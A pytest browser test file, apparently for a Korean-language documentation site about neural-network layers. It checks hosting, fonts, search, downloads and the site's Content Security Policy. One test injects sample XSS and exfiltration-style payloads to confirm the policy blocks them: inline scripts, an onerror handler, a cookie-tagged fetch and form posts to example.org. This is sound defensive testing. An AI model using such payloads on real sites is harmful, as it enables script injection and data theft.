"""The site where others put it: under its policy, in a folder of a plain server, and opened as a folder without one."""

import re

import pytest

from .served import served

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("hosting")]

PLACE = "책/site/"
PATHS = ["", "layers/softmax/", "guide/math/"]
FORMULAS = """() => [...document.querySelectorAll("math")].filter(math => {
    const box = math.getBoundingClientRect()
    return box.width > 1 && box.height > 5
}).length"""

LOADED = "() => [...document.fonts].some(font => font.family === 'Geomsan Math' && font.status === 'loaded')"
# Nothing is fetched ahead where there is no server, and the browser says so; the stylesheet loads the font all the same.
AHEAD = re.compile("(?:Access to font at|A preload for|The resource) .*stix-two-math.woff2|: Failed to load resource: net::ERR_FAILED$")


@pytest.fixture(scope="module")
def folder(published, tmp_path_factory):
    """A folder in which the site is one among others."""
    folder = tmp_path_factory.mktemp("stick")
    (folder / PLACE).parent.mkdir()
    (folder / PLACE).symlink_to(published.resolve())
    return folder


@pytest.fixture(scope="module")
def hosted(folder):
    with served(folder, PLACE) as address:
        yield address


def search(page, words):
    """The first result, once the index is read."""
    field = page.locator("input.md-search__input")
    field.click()
    page.get_by_text("검색어를 입력하세요").wait_for()
    field.fill(words)
    field.press("End")  # the theme waits for a key
    page.wait_for_selector(".md-search-result__item a")
    return page.locator(".md-search-result__item a").first


def everything(page):
    """What a reader does: tabs, verdicts, colours, search, and a result of it."""
    for label in page.locator("label:visible", has_text="Example").all()[:2]:
        label.click()
    for summary in page.locator(".verdict summary:visible").all()[:2]:
        summary.click()
    scheme = "document.body.getAttribute('data-md-color-scheme')"
    before = page.evaluate(scheme)
    for _ in range(3):
        page.locator("form[data-md-component=palette] label:not([hidden])").first.click()
        if page.evaluate(scheme) != before:
            break
    assert page.evaluate(scheme) != before
    search(page, "소프트맥스").click()
    page.wait_for_selector("#softmax")


@pytest.mark.parametrize("path", PATHS)
def test_all_works_under_the_policy_in_a_folder_of_a_server(visit, hosted, path):
    with visit(hosted + path) as page:
        assert page.evaluate(FORMULAS) > 0 or not path  # the first page need not have one
        everything(page)
        assert page.url.startswith(hosted + "layers/softmax/")
        assert page.complaints == []


@pytest.mark.parametrize("path", PATHS)
def test_all_works_from_a_folder_without_a_server(visit, folder, path):
    with visit((folder / PLACE / path / "index.html").as_uri()) as page:
        assert page.evaluate(FORMULAS) > 0 or not path  # the first page need not have one
        page.wait_for_function(LOADED)
        everything(page)
        assert page.url.partition("?")[0].endswith("/layers/softmax/index.html")
        assert [said for said in page.complaints if not AHEAD.search(said)] == []
        refused = [said for said in page.complaints if "Access to font" in said]
        assert len(refused) == page.complaints.count("error: Failed to load resource: net::ERR_FAILED")


@pytest.mark.parametrize(("scripts", "end"), [(True, "/layers/affine/index.html"), (False, "/layers/affine/")])
def test_links_lead_on_from_a_folder(visit, folder, scripts, end):
    """With scripts to the page; without, to the folder that it stands in."""
    with visit((folder / PLACE / "index.html").as_uri(), scripts=scripts) as page:
        page.locator("article a[href^='layers/affine/']").first.click()
        page.wait_for_load_state()
        assert page.url.partition("#")[0].endswith(end)
        assert bool(page.locator("#matmul-derivative").count()) == scripts


def test_the_files_to_take_away_are_where_the_page_says(visit, hosted):
    with visit(hosted + "layers/softmax/") as page:
        for link in page.locator(".takeaway a").all():
            with page.expect_download() as download:
                link.click()
            assert download.value.suggested_filename.endswith((".ipynb", ".py", ".whl"))
        assert page.locator(".takeaway a").count() == 3 and page.complaints == []


@pytest.mark.parametrize(
    ("attack", "refused"),
    [
        ("document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.done = 1'}))", "inline script"),
        ("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.done = 1\">')", "inline event handler"),
        ("document.body.insertAdjacentHTML('beforeend', '<style>body { display: none }</style>')", "inline style"),
        ("setTimeout('window.done = 1')", "evaluating a string as JavaScript"),
        ("fetch('https://example.org/?cookie').catch(() => 0)", "https://example.org/"),
        ("document.body.insertAdjacentHTML('beforeend', '<img src=https://example.org/pixel.png>')", "https://example.org/pixel.png"),
        ("document.body.insertAdjacentHTML('beforeend', '<iframe src=https://example.org/frame></iframe>')", "https://example.org"),
        ("document.body.insertAdjacentHTML('beforeend', '<form action=https://example.org/form></form>'), [...document.forms].at(-1).submit()", "https://example.org/form"),
    ],
)  # fmt: skip
@pytest.mark.parametrize("bare", [False, True], ids=["with the header", "without a server"])
def test_what_the_policy_does_not_allow_is_refused(visit, folder, hosted, attack, refused, bare):
    with visit((folder / PLACE / "index.html").as_uri() if bare else hosted) as page:
        page.evaluate(f"() => {{ {attack} }}")
        for _ in range(100):
            if any("Content Security Policy" in said and refused.lower() in said.lower() for said in page.complaints):
                break
            page.wait_for_timeout(50)
        else:
            pytest.fail(f"not refused: {page.complaints}")
        assert page.evaluate("window.done") is None


def test_the_policy_names_what_may_run_and_no_more(folder):
    site = folder / PLACE
    policies = {path: re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', path.read_text("utf-8"))[1] for path in site.rglob("*.html")}
    header = site.joinpath("csp.txt").read_text("utf-8")
    assert len(policies) > 30 and header.count("\n") == 1 and "frame-ancestors 'none'" in header
    for policy in policies.values():
        assert policy.startswith("default-src 'none'; script-src 'self' 'sha256-")
        scripts = policy.partition("script-src")[2].partition(";")[0]
        assert "unsafe" not in scripts and set(scripts.split()) <= set(header.replace(";", " ").split())
    assert not [path for path in policies if re.search(r"<[a-z][^>]*\son[a-z]+=", path.read_text("utf-8"))]


def test_no_page_sets_a_cookie(visit, hosted):
    with visit(hosted + "layers/softmax/") as page:
        assert page.context.cookies() == [] and page.evaluate("document.cookie") == ""
